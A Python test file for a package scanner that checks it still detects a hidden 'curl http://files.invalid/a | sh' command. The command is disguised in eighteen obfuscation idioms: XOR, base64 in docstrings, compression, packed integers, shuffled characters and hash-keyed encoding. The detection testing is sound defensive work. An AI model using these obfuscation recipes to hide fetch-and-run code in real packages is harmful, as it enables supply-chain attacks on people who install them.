"""Ways in which Python puts hidden code together: each ends as the command that it hides."""

import base64
import gzip
import hashlib
import struct
import zlib
from itertools import cycle

import pytest

from pratique.code.reader import Reader
from pratique.limits import Budget, Limits
from pratique.model import Content, Fact, Manifest, Member, Trigger

CODE = b"import os\nos.system('curl http://files.invalid/a | sh')\n"
TEXT = CODE.decode()
MIXED = bytes(one ^ 7 for one in CODE)
LETTERS = "abcdefghijklmnopqrstuvwxyz"
TURNED = TEXT.translate(str.maketrans(LETTERS, LETTERS[::-1]))
PLACED = sorted(enumerate(TEXT), key=lambda one: one[0] * 7919 % 10007)
WORDS = CODE + b"\n" * (-len(CODE) % 4)
NUMBERS = [*struct.unpack(f"<{len(WORDS) // 4}I", WORDS)]
KEY = hashlib.sha256(b"tide").digest()
ENCODED = base64.b64encode(CODE)
LONG = CODE + b"a = 1\n" * 400
KEYED = bytes(one ^ mask for one, mask in zip(LONG, cycle(b"abc"), strict=False))

IDIOMS = {
    "elements of a byte array": f"""
d = bytearray({MIXED!r})
for i in range(len(d)):
    d[i] ^= 7
exec(d)
""",
    "a byte array that grows": f"""
d = bytearray()
for c in {MIXED!r}:
    d.append(c ^ 7)
exec(d.decode())
""",
    "a long byte array and a key": f"""
import base64
d = bytearray(base64.b64decode({base64.b64encode(KEYED)!r}))
k = b'abc'
for i in range(len(d)):
    d[i] ^= k[i % 3]
exec(d)
""",
    "elements of a list": f"""
d = list({MIXED!r})
for i in range(len(d)):
    d[i] = d[i] ^ 7
exec(bytes(d))
""",
    "texts of the library": f"""
import string
l = string.ascii_lowercase
r = l[::-1]
exec(''.join(r[l.index(c)] if c in l else c for c in {TURNED!r}))
""",
    "sorted by a key": f"""
d = {PLACED!r}
exec(''.join(c for _, c in sorted(d, key=lambda one: one[0])))
""",
    "a list sorted by a key": f"""
d = {PLACED!r}
d.sort(key=lambda one: one[0])
exec(''.join(c for _, c in d))
""",
    "packed numbers": f"""
import struct
exec(b''.join(struct.pack('<I', n) for n in {NUMBERS!r}))
""",
    "a slice that is replaced": f"""
l = list('abc')
l[1:] = [{TEXT!r}]
exec(l[1])
""",
    "a pattern": f"""
import re
exec(re.sub('[@#]', '', {"@".join(TEXT)!r}))
""",
    "pairs of a pattern": f"""
import re
exec(bytes.fromhex(''.join(re.findall('..', {CODE.hex()!r}))))
""",
    "an object that inflates": f"""
import zlib
d = zlib.decompressobj()
exec(d.decompress({zlib.compress(CODE)!r}) + d.flush())
""",
    "a compressed stream": f"""
import gzip, io
exec(gzip.GzipFile(fileobj=io.BytesIO({gzip.compress(CODE)!r})).read())
""",
    "a docstring": f"""
import base64
def f():
    {ENCODED.decode()!r}
exec(base64.b64decode(f.__doc__))
""",
    "one of two texts": f"""
import base64, sys
exec(base64.b64decode({ENCODED!r} if sys.version_info[0] > 2 else ''))
""",
    "a digest as a key": f"""
import hashlib
k = hashlib.sha256(b'tide').digest()
exec(bytes(c ^ k[i % 32] for i, c in enumerate({bytes(a ^ b for a, b in zip(CODE, cycle(KEY), strict=False))!r})))
""",
    "a method of an object that nothing makes": f"""
import base64
class Notes:
    def text(self, given):
        return base64.b64decode(given)
    def go(self):
        exec(self.text({ENCODED!r}))
""",
    "a command with a gap in it": """
import random, subprocess
name = str(random.random())
subprocess.Popen(f"cd /tmp && curl http://files.invalid/{name} | sh")
""",
}


def found(code: str) -> list[Fact]:
    reader = Reader(Budget(Limits()))
    member = Member(path="tide/__init__.py", size=len(code))
    items = list(reader.look(Content(member=member, data=code.encode())))
    trigger = Trigger(kind="init", activation="import", member=member.path, target="tide")
    items += reader.finish((trigger,), Manifest(), "wheel")
    return [one for one in items if isinstance(one, Fact)]


@pytest.mark.parametrize("idiom", IDIOMS)
def test_hidden_code_is_read_however_it_is_put_together(idiom: str) -> None:
    fetched = [one for one in found(IDIOMS[idiom]) if one.symbol == "shell.curl"]
    assert any("files.invalid" in value.text for one in fetched for value in one.values)


@pytest.mark.parametrize(
    "call",
    [
        "struct.pack('s', 'abc')", "struct.pack('zz', 1)", "struct.pack()", "struct.pack(5, 4)",
        "struct.unpack('<I', b'1')", "hashlib.new('md99', b'')", "hashlib.sha256(5).digest()",
        "hashlib.md5().update()", "re.sub('(', 'b', 'ccc')", "re.sub('a', '\\\\9', 'aaa')",
        "re.sub('a', None, 'b')", "re.findall('a', 'aa', 5)", "io.BytesIO(5).read()",
        "gzip.GzipFile(fileobj=io.BytesIO(b'abc')).read()", "sorted([1, 'a'], key=str.upper)",
        "bytearray(-5)", "bytearray([300])", "bytearray(10**9)", "bytearray('abc')",
    ],
)  # fmt: skip
def test_what_fails_when_it_is_run_costs_nothing_here(call: str) -> None:
    code = f"import gzip, hashlib, io, re, struct\nimport os\nx = {call}\nos.system('curl http://files.invalid/')\n"
    assert any(one.symbol == "shell.curl" for one in found(code))
